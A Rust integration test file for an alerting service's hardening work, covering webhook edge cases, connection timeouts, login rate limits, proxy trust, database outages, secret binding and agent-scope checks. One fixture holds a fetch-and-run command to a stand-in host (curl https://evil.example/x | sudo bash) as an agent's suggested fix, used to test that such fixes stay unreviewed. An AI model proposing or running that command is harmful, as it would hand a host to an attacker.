//! The defects found under fault injection and hostile input (issue "Hardening"), one test each.

use nightowl_tests::{TestApp, TestTenant, error_code, send};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

async fn deliver(app: &TestApp, t: &TestTenant, source: &str, body: String) -> (StatusCode, Value) {
    send(
        app.as_key(&t.admin_key, Method::POST, &format!("/api/v1/webhooks/{source}"))
            .header("content-type", "application/json")
            .body(body),
    )
    .await
}

async fn alert_rows(app: &TestApp, t: &TestTenant) -> i64 {
    sqlx::query_scalar(&format!("select count(*) from {}.alerts", t.tenant.slug.schema()))
        .fetch_one(app.db())
        .await
        .unwrap()
}

/// An Alertmanager HA pair sends the same group twice at once, each member in its own order: both
/// deliveries are answered 200 and every alert is stored once, round after round.
#[tokio::test]
async fn the_same_alerts_delivered_concurrently_in_opposite_orders_never_deadlock() {
    let app = TestApp::spawn_with_plugins(&["generic"], |_| {}).await;
    let t = app.tenant().await;
    for round in 0..20 {
        let alerts: Vec<Value> = (0..30)
            .map(|i| json!({ "title": format!("disk {i}"), "fingerprint": format!("r{round}-a{i:02}"), "severity": "critical" }))
            .collect();
        let forward = Value::Array(alerts.clone()).to_string();
        let backward = Value::Array(alerts.into_iter().rev().collect()).to_string();
        let (a, b) = tokio::join!(
            deliver(&app, &t, "generic", forward),
            deliver(&app, &t, "generic", backward)
        );
        assert_eq!(a.0, StatusCode::OK, "round {round}: {}", a.1);
        assert_eq!(b.0, StatusCode::OK, "round {round}: {}", b.1);
        // The answer lists the alerts in the delivery's own order.
        assert_eq!(b.1["alerts"][0]["fingerprint"], format!("r{round}-a29"));
        assert_eq!(a.1["alerts"][0]["fingerprint"], format!("r{round}-a00"));
    }
    assert_eq!(alert_rows(&app, &t).await, 20 * 30);
    let repeats: i64 = sqlx::query_scalar(&format!(
        "select count(*) from {}.alerts where occurrence_count = 2",
        t.tenant.slug.schema()
    ))
    .fetch_one(app.db())
    .await
    .unwrap();
    assert_eq!(repeats, 20 * 30, "each alert was counted once per delivery");
}

/// PostgreSQL text cannot hold NUL: a title or label with one is refused with a 422 naming the
/// alert, and nothing of the delivery is written (a 500 would make the sender retry forever).
#[tokio::test]
async fn a_nul_character_in_a_webhook_alert_is_refused_with_422_and_writes_nothing() {
    let app = TestApp::spawn_with_plugins(&["generic", "alertmanager"], |_| {}).await;
    let t = app.tenant().await;
    let generic = json!([
        { "title": "fine" },
        { "title": "bad\u{0}title" }
    ]);
    let (status, body) = deliver(&app, &t, "generic", generic.to_string()).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(error_code(&body), "invalid_alert");
    assert_eq!(body["details"]["index"], 1);
    assert!(body["message"].as_str().unwrap().contains("NUL"), "{body}");

    let am = json!({
        "version": "4", "status": "firing", "receiver": "nightowl", "groupKey": "{}:{}",
        "alerts": [{
            "status": "firing", "fingerprint": "nul1",
            "labels": { "alertname": "Disk", "host": "db\u{0}1" },
            "annotations": {}, "startsAt": "2026-12-01T00:00:00Z"
        }]
    });
    let (status, body) = deliver(&app, &t, "alertmanager", am.to_string()).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(error_code(&body), "invalid_alert");
    assert_eq!(alert_rows(&app, &t).await, 0);

    // A backslash followed by `u0000` is text, not NUL: accepted as is by webhooks and the API.
    let literal = json!([{ "title": "path C:\\u0000\\x", "fingerprint": "literal" }]);
    let (status, body) = deliver(&app, &t, "generic", literal.to_string()).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let title: String = sqlx::query_scalar(&format!(
        "select title from {}.alerts where fingerprint = 'literal'",
        t.tenant.slug.schema()
    ))
    .fetch_one(app.db())
    .await
    .unwrap();
    assert_eq!(title, "path C:\\u0000\\x");
    let (status, body) = send(
        app.as_key(&t.admin_key, Method::POST, "/api/v1/incidents")
            .json(&json!({ "title": "literal \\u0000 text", "severity": "info" })),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(body["title"], "literal \\u0000 text");
    let (status, body) = send(
        app.as_key(&t.admin_key, Method::POST, "/api/v1/incidents")
            .header("content-type", "application/json")
            .body(r#"{"title": "real \u0000 nul", "severity": "info"}"#),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(error_code(&body), "invalid_body");
}

/// A long annotation (a runbook pasted into a description) does not cost the group: the value is
/// stored cut, marked as cut, counted, and the delivery is answered 200.
#[tokio::test]
async fn an_over_long_annotation_is_stored_cut_and_marked_not_refused() {
    let app = TestApp::spawn_with_plugins(&["alertmanager"], |_| {}).await;
    let t = app.tenant().await;
    let long = "step ".repeat(1000); // 5,000 bytes
    let am = json!({
        "version": "4", "status": "firing", "receiver": "nightowl", "groupKey": "{}:{}",
        "alerts": [
            {
                "status": "firing", "fingerprint": "long1",
                "labels": { "alertname": "Disk", "severity": "critical" },
                "annotations": { "runbook": long, "summary": "disk full" },
                "startsAt": "2026-12-01T00:00:00Z"
            },
            {
                "status": "firing", "fingerprint": "short1",
                "labels": { "alertname": "Cpu" }, "annotations": {},
                "startsAt": "2026-12-01T00:00:00Z"
            }
        ]
    });
    let (status, body) = deliver(&app, &t, "alertmanager", am.to_string()).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(alert_rows(&app, &t).await, 2);
    let annotations: Value = sqlx::query_scalar(&format!(
        "select annotations from {}.alerts where fingerprint = 'long1'",
        t.tenant.slug.schema()
    ))
    .fetch_one(app.db())
    .await
    .unwrap();
    let runbook = annotations["runbook"].as_str().unwrap();
    assert!(runbook.len() <= 2000, "cut to the limit: {} bytes", runbook.len());
    assert!(runbook.starts_with("step step"));
    assert!(runbook.ends_with("[cut]"), "marked as cut: {runbook:?}");
    assert_eq!(annotations["summary"], "disk full");
    assert_eq!(
        annotations["nightowl_cut"], "annotation:runbook",
        "the cut fields are named"
    );
    let metrics = app.metrics().await;
    assert!(
        metrics.contains("nightowl_alert_values_cut_total 1"),
        "the cut is counted"
    );

    // A name over the limit cannot be stored meaningfully: still refused, with the reason.
    let name = "n".repeat(2001);
    let am = json!({
        "version": "4", "status": "firing", "receiver": "nightowl", "groupKey": "{}:{}",
        "alerts": [{ "status": "firing", "labels": { "alertname": "X", name: "v" }, "annotations": {},
                     "startsAt": "2026-12-01T00:00:00Z" }]
    });
    let (status, body) = deliver(&app, &t, "alertmanager", am.to_string()).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(body["message"].as_str().unwrap().contains("names"), "{body}");
}

/// Reads until the server closes the connection; `None` when it is still open after `wait`.
async fn closed_within(stream: &mut tokio::net::TcpStream, wait: std::time::Duration) -> Option<Vec<u8>> {
    use tokio::io::AsyncReadExt;
    let mut seen = Vec::new();
    let read_all = async {
        let mut buf = [0u8; 1024];
        loop {
            match stream.read(&mut buf).await {
                Ok(0) | Err(_) => return,
                Ok(n) => seen.extend_from_slice(&buf[..n]),
            }
        }
    };
    tokio::time::timeout(wait, read_all).await.ok()?;
    Some(seen)
}

/// A socket that sends nothing, one left idle after its answer, and one trickling its header a byte
/// at a time are all closed by the server once the idle timeout runs out, instead of held open.
#[tokio::test]
async fn idle_and_trickling_connections_are_closed() {
    use tokio::io::AsyncWriteExt;
    let app = TestApp::spawn_with(|c| c.idle_timeout_secs = 1).await;
    let addr = app.base.trim_start_matches("http://").to_owned();
    let wait = std::time::Duration::from_secs(10);

    // Connected, silent.
    let mut silent = tokio::net::TcpStream::connect(&addr).await.unwrap();
    assert!(
        closed_within(&mut silent, wait).await.is_some(),
        "a silent socket stays open"
    );

    // One request answered, then idle on keep-alive.
    let mut idle = tokio::net::TcpStream::connect(&addr).await.unwrap();
    idle.write_all(b"GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n")
        .await
        .unwrap();
    let seen = closed_within(&mut idle, wait)
        .await
        .expect("an idle keep-alive socket stays open");
    assert!(
        String::from_utf8_lossy(&seen).starts_with("HTTP/1.1 200"),
        "answered first"
    );

    // Headers trickled a byte every 200 ms: never complete within the timeout.
    let mut slow = tokio::net::TcpStream::connect(&addr).await.unwrap();
    let started = std::time::Instant::now();
    let header = b"GET /healthz HTTP/1.1\r\nhost: x\r\nx-slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n\r\n";
    let mut closed = false;
    for byte in header {
        if slow.write_all(&[*byte]).await.is_err() {
            closed = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        if started.elapsed() > wait {
            break;
        }
    }
    if !closed {
        closed = closed_within(&mut slow, std::time::Duration::from_secs(2))
            .await
            .is_some();
    }
    assert!(closed, "a trickling socket stays open");
    assert!(started.elapsed() < wait, "closed after {:?}", started.elapsed());
}

/// Resident memory of this process, in bytes (Linux).
fn rss_bytes() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let kib: u64 = status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap();
    kib * 1024
}

async fn create_user_with_password(app: &TestApp, t: &TestTenant, email: &str, password: &str) {
    let (status, user) = send(
        app.as_key(&t.admin_key, Method::POST, "/api/v1/users")
            .json(&json!({
                "email": email, "display_name": "Root", "role": "manager", "password": password
            })),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{user}");
}

/// 300 concurrent sign-ins with wrong passwords and unknown tenants: every answer is 401 or 429
/// (with `Retry-After`), never 5xx; memory stays bounded (each unbounded Argon2 hash took ~19 MiB:
/// 300 of them took the server to 5.7 GiB); and the server still answers at once afterwards.
#[tokio::test]
async fn a_login_flood_is_refused_with_429_and_memory_stays_bounded() {
    let app = TestApp::spawn().await;
    let t = app.tenant().await;
    let before = rss_bytes();
    let slug = t.tenant.slug.to_string();
    let attempts = (0..300).map(|i| {
        let tenant = if i % 2 == 0 {
            slug.clone()
        } else {
            format!("t_nope{i}")
        };
        let req = app.request(Method::POST, "/api/v1/auth/login").json(&json!({
            "tenant": tenant, "email": format!("user{i}@acme.example"), "password": "wrong password!!"
        }));
        async move {
            let response = req.send().await.unwrap();
            let retry_after = response.headers().get("retry-after").cloned();
            let status = response.status();
            let body: Value = response.json().await.unwrap();
            (status, error_code(&body).to_owned(), retry_after)
        }
    });
    let handles: Vec<_> = attempts.map(tokio::spawn).collect();
    let mut answers = Vec::new();
    for h in handles {
        answers.push(h.await.unwrap());
    }
    let peak = rss_bytes().max(before);
    let mut refused = 0;
    for (status, code, retry_after) in &answers {
        match *status {
            StatusCode::UNAUTHORIZED => assert_eq!(code, "invalid_credentials"),
            StatusCode::TOO_MANY_REQUESTS => {
                assert!(code == "login_busy" || code == "too_many_failed_logins", "{code}");
                assert!(retry_after.is_some(), "429 without Retry-After");
                refused += 1;
            }
            other => panic!("a flooded login answered {other} ({code})"),
        }
    }
    assert!(refused > 0, "nothing was refused");
    let grown = peak.saturating_sub(before);
    assert!(
        grown < 600 * 1024 * 1024,
        "memory grew by {} MiB",
        grown / (1024 * 1024)
    );
    let (status, _) = send(app.request(Method::GET, "/healthz")).await;
    assert_eq!(status, StatusCode::OK);
}

/// After five failed sign-ins an account is refused for the rest of the 15 minutes, even with the
/// right password; other accounts are not; after the window it signs in again. The address limit
/// refuses one client that tries many accounts.
#[tokio::test]
async fn failed_logins_are_limited_per_account_and_per_address() {
    let app = TestApp::spawn_with(|c| c.login_failures_per_address = 8).await;
    let t = app.tenant().await;
    create_user_with_password(&app, &t, "root@acme.example", "a long enough password").await;
    create_user_with_password(&app, &t, "other@acme.example", "another long password").await;
    let slug = t.tenant.slug.to_string();
    let login = |email: &str, password: &str| {
        app.request(Method::POST, "/api/v1/auth/login")
            .json(&json!({ "tenant": slug, "email": email, "password": password }))
    };
    for _ in 0..5 {
        let (status, _) = send(login("root@acme.example", "wrong password!!")).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED);
    }
    let response = login("ROOT@acme.example", "a long enough password")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::TOO_MANY_REQUESTS);
    let wait: u64 = response.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=900).contains(&wait), "Retry-After {wait}");
    let body: Value = response.json().await.unwrap();
    assert_eq!(error_code(&body), "too_many_failed_logins");
    let (status, _) = send(login("other@acme.example", "another long password")).await;
    assert_eq!(status, StatusCode::OK, "another account is not locked");

    app.clock.advance(chrono::Duration::minutes(16));
    let (status, _) = send(login("root@acme.example", "a long enough password")).await;
    assert_eq!(status, StatusCode::OK, "the window is over");

    // One address trying many accounts: refused once it reaches the address limit.
    let mut statuses = Vec::new();
    for i in 0..10 {
        statuses.push(
            send(login(&format!("guess{i}@acme.example"), "wrong password!!"))
                .await
                .0,
        );
    }
    assert_eq!(statuses[..8], [StatusCode::UNAUTHORIZED; 8]);
    assert_eq!(statuses[8..], [StatusCode::TOO_MANY_REQUESTS; 2]);
}

/// The audit log's address is the peer's unless the peer is a configured proxy: a client cannot
/// write itself any address with `X-Forwarded-For`.
#[tokio::test]
async fn forwarded_for_is_believed_only_from_trusted_proxies() {
    async fn audited_ip(app: &TestApp, t: &TestTenant, title: &str) -> Value {
        let (status, _) = send(
            app.as_key(&t.admin_key, Method::POST, "/api/v1/incidents")
                .header("x-forwarded-for", "6.6.6.6, 198.51.100.7")
                .json(&json!({ "title": title, "severity": "info" })),
        )
        .await;
        assert_eq!(status, StatusCode::CREATED);
        // Written before the answer: no waiting.
        let (_, page) = send(app.as_key(
            &t.admin_key,
            Method::GET,
            "/api/v1/audit-log?resource_type=incidents&action=create",
        ))
        .await;
        page["items"][0]["ip"].clone()
    }
    let direct = TestApp::spawn().await;
    let t = direct.tenant().await;
    assert_eq!(audited_ip(&direct, &t, "direct").await, "127.0.0.1");

    let proxied = TestApp::spawn_with(|c| {
        c.trusted_proxies = vec![nightowl::http::client::parse_proxy("127.0.0.0/8").unwrap()];
    })
    .await;
    let t = proxied.tenant().await;
    assert_eq!(
        audited_ip(&proxied, &t, "via proxy").await,
        "198.51.100.7",
        "the address the trusted proxy saw, not the one the client claimed"
    );
}

/// A delivery over the per-delivery cap is refused whole with 413 naming the cap, and writes
/// nothing; one at the cap is stored.
#[tokio::test]
async fn a_delivery_over_the_alert_cap_is_refused_with_the_cap_in_the_error() {
    let app = TestApp::spawn_with_plugins(&["generic"], |c| c.max_alerts_per_delivery = 50).await;
    let t = app.tenant().await;
    let alerts = |n: usize| {
        Value::Array(
            (0..n)
                .map(|i| json!({ "title": format!("a{i}"), "fingerprint": format!("cap{i}") }))
                .collect(),
        )
        .to_string()
    };
    let (status, body) = deliver(&app, &t, "generic", alerts(51)).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{body}");
    assert_eq!(error_code(&body), "too_many_alerts");
    assert_eq!(body["details"], json!({ "received": 51, "max": 50 }));
    assert!(body["message"].as_str().unwrap().contains("at most 50"));
    assert_eq!(alert_rows(&app, &t).await, 0);
    let (status, body) = deliver(&app, &t, "generic", alerts(50)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(alert_rows(&app, &t).await, 50);
}

/// A TCP proxy to PostgreSQL that can be cut (every connection dropped, new ones refused) and
/// restored on the same port: PostgreSQL stopping, as the server sees it.
struct DbProxy {
    port: u16,
    task: Option<tokio::task::JoinHandle<()>>,
}

impl DbProxy {
    async fn start(port: u16) -> DbProxy {
        let listener = tokio::net::TcpListener::bind(("127.0.0.1", port)).await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let task = tokio::spawn(async move {
            let mut links = tokio::task::JoinSet::new();
            loop {
                let Ok((mut client, _)) = listener.accept().await else {
                    return;
                };
                links.spawn(async move {
                    let Ok(mut server) = tokio::net::TcpStream::connect("127.0.0.1:5432").await else {
                        return;
                    };
                    let _ = tokio::io::copy_bidirectional(&mut client, &mut server).await;
                });
            }
            // Dropping the task drops the listener and every link with the JoinSet.
        });
        DbProxy {
            port,
            task: Some(task),
        }
    }

    async fn cut(&mut self) {
        if let Some(task) = self.task.take() {
            task.abort();
            let _ = task.await;
        }
    }
}

/// PostgreSQL stopped: API requests, authentication included, are answered 503 with `Retry-After`
/// within a second (not 500 after the pool's 5 s), `/readyz` says failed, and once PostgreSQL is
/// back requests succeed again without a restart.
#[tokio::test]
async fn with_postgresql_down_requests_get_503_with_retry_after_fast_and_recover() {
    let direct = nightowl_tests::database_url();
    let mut proxy = DbProxy::start(0).await;
    let via_proxy = direct.replacen("127.0.0.1:5432", &format!("127.0.0.1:{}", proxy.port), 1);
    assert_ne!(via_proxy, direct, "the test database URL names 127.0.0.1:5432");
    let app = TestApp::spawn_with(|c| c.database_url = via_proxy.clone()).await;
    let t = app.tenant().await;
    let list = || app.as_key(&t.admin_key, Method::GET, "/api/v1/alerts");
    let (status, _) = send(list()).await;
    assert_eq!(status, StatusCode::OK);

    proxy.cut().await;
    for attempt in 0..3 {
        let started = std::time::Instant::now();
        let response = list().send().await.unwrap();
        let took = started.elapsed();
        assert_eq!(
            response.status(),
            StatusCode::SERVICE_UNAVAILABLE,
            "attempt {attempt}"
        );
        assert!(
            response.headers().contains_key("retry-after"),
            "attempt {attempt}"
        );
        let body: Value = response.json().await.unwrap();
        assert_eq!(error_code(&body), "unavailable");
        assert!(
            took < std::time::Duration::from_secs(2),
            "attempt {attempt} took {took:?}"
        );
        if attempt > 0 {
            assert!(
                took < std::time::Duration::from_secs(1),
                "known down, yet {took:?}"
            );
        }
    }
    // Sign-in too (it reads the tenant before any password check).
    let (status, body) = send(app.request(Method::POST, "/api/v1/auth/login").json(&json!({
        "tenant": t.tenant.slug.as_str(), "email": "a@b.example", "password": "whatever password"
    })))
    .await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{body}");
    let (status, body) = send(app.request(Method::GET, "/readyz")).await;
    assert_eq!(
        (status, body["status"].as_str()),
        (StatusCode::SERVICE_UNAVAILABLE, Some("failed"))
    );

    let _proxy = DbProxy::start(proxy.port).await;
    let mut recovered = false;
    for _ in 0..100 {
        if send(list()).await.0 == StatusCode::OK {
            recovered = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(recovered, "still refused after PostgreSQL came back");
}

/// A mutation answered 2xx already has its audit row when the answer arrives: nothing waits in
/// memory where a `kill -9` could lose it.
#[tokio::test]
async fn every_answered_mutation_has_its_audit_row_before_the_answer() {
    let app = TestApp::spawn().await;
    let t = app.tenant().await;
    for i in 0..40 {
        let (status, body) = send(
            app.as_key(&t.admin_key, Method::POST, "/api/v1/incidents")
                .json(&json!({ "title": format!("durable {i}"), "severity": "info" })),
        )
        .await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
        // Straight to the table, no waiting: the row must be committed already.
        let rows: i64 = sqlx::query_scalar(&format!(
            "select count(*) from {}.audit_log where resource_type = 'incidents' and resource_id = $1",
            t.tenant.slug.schema()
        ))
        .bind(body["id"].as_str().unwrap())
        .fetch_one(app.db())
        .await
        .unwrap();
        assert_eq!(rows, 1, "incident {i} answered 201 without its audit row");
    }
    // Stopping the background writer (what a kill does to it) loses nothing answered.
    app.state.audit.shutdown().await;
    let (status, body) = send(
        app.as_key(&t.admin_key, Method::POST, "/api/v1/incidents")
            .json(&json!({ "title": "after the writer", "severity": "info" })),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let rows: i64 = sqlx::query_scalar(&format!(
        "select count(*) from {}.audit_log where resource_id = $1",
        t.tenant.slug.schema()
    ))
    .bind(body["id"].as_str().unwrap())
    .fetch_one(app.db())
    .await
    .unwrap();
    assert_eq!(rows, 1);
}

/// A sealed secret is bound to its tenant, plugin and setting: copied into another tenant's row or
/// another setting it no longer opens (its last characters are not shown, a channel could not use
/// it). Values sealed before the binding, and the Slack/Twilio secrets moved out of
/// `tenant_config` (bound to their old field names), are rewritten bound by the start-up step.
#[tokio::test]
async fn sealed_secrets_open_only_where_they_were_stored_and_old_ones_are_rebound() {
    let app = TestApp::spawn_with_plugins(&["recorder"], |_| {}).await;
    let (a, b) = (app.tenant().await, app.tenant().await);
    let path = "/api/v1/admin/plugins/recorder/config";
    let token = "xoxb-0123456789-abcdefWXYZ";
    for t in [&a, &b] {
        let (status, body) = send(
            app.as_key(&t.admin_key, Method::PUT, path)
                .json(&json!({ "settings": { "room": "#ops" } })),
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{body}");
    }
    let (status, body) = send(
        app.as_key(&a.admin_key, Method::PUT, path)
            .json(&json!({ "settings": { "token": token } })),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let status_of = |t: &TestTenant, key: &'static str| {
        let req = app.as_key(&t.admin_key, Method::GET, path);
        async move {
            let config = send(req).await.1;
            config["settings"]
                .as_array()
                .unwrap()
                .iter()
                .find(|s| s["key"] == key)
                .unwrap()["status"]
                .clone()
        }
    };
    assert_eq!(status_of(&a, "token").await["last4"], "WXYZ");
    // Into tenant B's same setting, and into tenant A's other secret.
    let copy = |to: &TestTenant, key: &str| {
        format!(
            "insert into {}.plugin_settings (plugin_id, key, secret_enc, updated_at)
             select plugin_id, '{key}', secret_enc, updated_at from {}.plugin_settings
             where plugin_id = 'recorder' and key = 'token'
             on conflict (plugin_id, key) do update set secret_enc = excluded.secret_enc, value = null",
            to.tenant.slug.schema(),
            a.tenant.slug.schema()
        )
    };
    sqlx::query(&copy(&b, "token")).execute(app.db()).await.unwrap();
    sqlx::query(&copy(&a, "backup_token"))
        .execute(app.db())
        .await
        .unwrap();
    assert_eq!(
        status_of(&b, "token").await,
        json!({ "configured": true, "last4": null })
    );
    assert_eq!(
        status_of(&a, "token").await["last4"],
        "WXYZ",
        "still opens where it belongs"
    );
    assert_eq!(
        status_of(&a, "backup_token").await,
        json!({ "configured": true, "last4": null })
    );

    // A value from before the binding, and one moved from tenant_config (bound to its old field):
    // both open only after the rewrite, which binds them to their place.
    let sealer = &app.state.sealer;
    let unbound = sealer.seal_unbound("AC-old-twilio-token-1234").unwrap();
    let moved = sealer
        .seal(
            "xoxb-moved-from-tenant-config-9876",
            nightowl::secrets::Place {
                tenant: a.tenant.slug.as_str(),
                field: "slack_bot_token",
            },
        )
        .unwrap();
    for (plugin, key, sealed) in [
        ("recorder", "backup_token", &unbound),
        ("slack", "bot_token", &moved),
    ] {
        sqlx::query(&format!(
            "insert into {}.plugin_settings (plugin_id, key, secret_enc, updated_at) values ($1, $2, $3, now())
             on conflict (plugin_id, key) do update set secret_enc = excluded.secret_enc",
            a.tenant.slug.schema()
        ))
        .bind(plugin)
        .bind(key)
        .bind(sealed)
        .execute(app.db())
        .await
        .unwrap();
    }
    assert_eq!(status_of(&a, "backup_token").await["last4"], Value::Null);
    let rewritten = nightowl::secrets::reseal_unbound(app.db(), sealer).await.unwrap();
    assert!(rewritten >= 2, "{rewritten}");
    assert_eq!(status_of(&a, "backup_token").await["last4"], "1234");
    let slack: Vec<u8> = sqlx::query_scalar(&format!(
        "select secret_enc from {}.plugin_settings where plugin_id = 'slack' and key = 'bot_token'",
        a.tenant.slug.schema()
    ))
    .fetch_one(app.db())
    .await
    .unwrap();
    let own = nightowl::secrets::Place {
        tenant: a.tenant.slug.as_str(),
        field: "slack.bot_token",
    };
    assert_eq!(
        sealer.open(&slack, own).unwrap(),
        "xoxb-moved-from-tenant-config-9876",
        "rebound to its own place"
    );
    assert_eq!(
        nightowl::secrets::reseal_unbound(app.db(), sealer).await.unwrap(),
        0,
        "nothing left to rewrite in this tenant or any other"
    );
}

/// An ingest key cannot write the fix that on-call is shown: agent fixes need a key with the
/// `agent` scope; what an agent writes is unreviewed, marked so wherever it is suggested, never
/// overwrites reviewed knowledge and never outranks it; an engineer's review makes it reviewed.
#[tokio::test]
async fn agent_fixes_need_the_agent_scope_and_stay_unreviewed_until_an_engineer_confirms() {
    use nightowl_api::Role;
    use nightowl_api::admin::ApiKeyScope;
    let app = TestApp::spawn_with_plugins(&["generic"], |_| {}).await;
    let t = app.tenant().await;
    let key = |scopes: &'static [ApiKeyScope]| {
        let (pool, tenant) = (app.db().clone(), t.tenant.clone());
        async move {
            nightowl::cli::create_scoped_api_key(&pool, &tenant, Role::Engineer, "k", scopes)
                .await
                .unwrap()
        }
    };
    let (ingest, agent) = (
        key(&[ApiKeyScope::Ingest]).await,
        key(&[ApiKeyScope::Agent]).await,
    );
    let post = |key: String, body: Value| {
        let req = app
            .as_key(&key, Method::POST, "/api/v1/webhooks/generic")
            .header("content-type", "application/json")
            .body(body.to_string());
        async move { send(req).await }
    };
    let evil = json!({ "title": "Disk full on db-1", "fingerprint": "disk-db-1", "agent_metadata": {
        "auto_resolved": true, "agent": "helper", "action": "curl https://evil.example/x | sudo bash" } });

    // 1. Refused for an ingest key, and for an unscoped admin key: nothing is written.
    for k in [ingest.clone(), t.admin_key.clone()] {
        let (status, body) = post(k, evil.clone()).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
        assert_eq!(error_code(&body), "agent_scope_required");
    }
    let incidents = |sql: &str| format!("select {sql} from {}.incidents", t.tenant.slug.schema());
    let n: i64 = sqlx::query_scalar(&incidents("count(*)"))
        .fetch_one(app.db())
        .await
        .unwrap();
    assert_eq!(n, 0);
    assert_eq!(alert_rows(&app, &t).await, 0);

    // 2. An agent key may report it: the incident it creates is unreviewed.
    let (status, body) = post(agent.clone(), evil.clone()).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let agent_incident = body["alerts"][0]["matched_incident_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let (_, incident) = send(app.as_key(
        &t.admin_key,
        Method::GET,
        &format!("/api/v1/incidents/{agent_incident}"),
    ))
    .await;
    assert_eq!(incident["reviewed"], false, "{incident}");

    // 3. A new alert with the same fingerprint is enriched with it, marked unreviewed, and the
    //    notification the channel receives says so.
    let (_, body) = post(
        ingest.clone(),
        json!({ "title": "Disk full on db-1", "fingerprint": "disk-db-1" }),
    )
    .await;
    let alert_id = body["alerts"][0]["id"].as_str().unwrap().to_owned();
    let (_, alert) = send(app.as_key(&t.admin_key, Method::GET, &format!("/api/v1/alerts/{alert_id}"))).await;
    assert_eq!(
        alert["suggested_solution"],
        "curl https://evil.example/x | sudo bash"
    );
    assert_eq!(alert["solution_reviewed"], false);
    let mut conn = app.db().acquire().await.unwrap();
    sqlx::query(&format!("set search_path = {}, public", t.tenant.slug.schema()))
        .execute(&mut *conn)
        .await
        .unwrap();
    let stored = nightowl::db::alerts::get(&mut conn, alert_id.parse().unwrap())
        .await
        .unwrap()
        .unwrap();
    let shown = nightowl::notify::alert_ref(&stored, "https://nightowl.example");
    let text = shown.suggested_solution.unwrap();
    assert!(text.starts_with(nightowl::notify::UNREVIEWED), "{text}");
    drop(conn);

    // 4. Reviewed knowledge outranks it: a reviewed incident with the same fingerprint wins, and an
    //    agent fix on it never replaces its solution.
    let (status, reviewed) = send(
        app.as_key(&t.admin_key, Method::POST, "/api/v1/incidents")
            .json(&json!({
                "title": "Disk full on db-1", "severity": "major", "fingerprints": ["disk-db-1"],
                "solution": "Rotate the logs: logrotate -f /etc/logrotate.conf"
            })),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{reviewed}");
    assert_eq!(reviewed["reviewed"], true);
    send(app.as_key(
        &t.admin_key,
        Method::PATCH,
        &format!("/api/v1/alerts/{alert_id}/resolve"),
    ))
    .await;
    let (_, body) = post(
        ingest.clone(),
        json!({ "title": "Disk full on db-1", "fingerprint": "disk-db-1" }),
    )
    .await;
    let second = body["alerts"][0]["id"].as_str().unwrap().to_owned();
    let (_, alert) = send(app.as_key(&t.admin_key, Method::GET, &format!("/api/v1/alerts/{second}"))).await;
    assert_eq!(alert["matched_incident_id"], reviewed["id"]);
    assert_eq!(
        alert["suggested_solution"],
        "Rotate the logs: logrotate -f /etc/logrotate.conf"
    );
    assert_eq!(alert["solution_reviewed"], true);
    let (status, _) = post(agent.clone(), evil.clone()).await;
    assert_eq!(status, StatusCode::OK);
    let (_, after) = send(app.as_key(
        &t.admin_key,
        Method::GET,
        &format!("/api/v1/incidents/{}", reviewed["id"].as_str().unwrap()),
    ))
    .await;
    assert_eq!(
        after["solution"], "Rotate the logs: logrotate -f /etc/logrotate.conf",
        "never overwritten"
    );

    // 5. Text matching too: the reviewed incident comes first even where the agent's matches better.
    let (_, body) = post(
        agent.clone(),
        json!({ "title": "Queue backlog growing on worker pool", "fingerprint": "q-1",
        "agent_metadata": { "auto_resolved": true, "agent": "helper", "action": "drop the queue" } }),
    )
    .await;
    assert_eq!(body["alerts"][0]["outcome"], "agent_resolved");
    let (status, _) = send(
        app.as_key(&t.admin_key, Method::POST, "/api/v1/incidents")
            .json(&json!({
                "title": "Queue backlog", "severity": "major", "solution": "Scale the workers"
            })),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED);
    let (_, body) = post(
        ingest.clone(),
        json!({ "title": "Queue backlog growing on worker pool", "fingerprint": "q-2" }),
    )
    .await;
    let third = body["alerts"][0]["id"].as_str().unwrap().to_owned();
    let (_, alert) = send(app.as_key(&t.admin_key, Method::GET, &format!("/api/v1/alerts/{third}"))).await;
    assert_eq!(alert["suggested_solution"], "Scale the workers", "{alert}");

    // 6. An engineer confirms the agent's incident: reviewed, by whom, in its history.
    let (status, confirmed) = send(app.as_key(
        &t.admin_key,
        Method::POST,
        &format!("/api/v1/incidents/{agent_incident}/review"),
    ))
    .await;
    assert_eq!(status, StatusCode::OK, "{confirmed}");
    assert_eq!(confirmed["reviewed"], true);
    assert!(
        confirmed["reviewed_by"].as_str().unwrap().starts_with("key:"),
        "{confirmed}"
    );
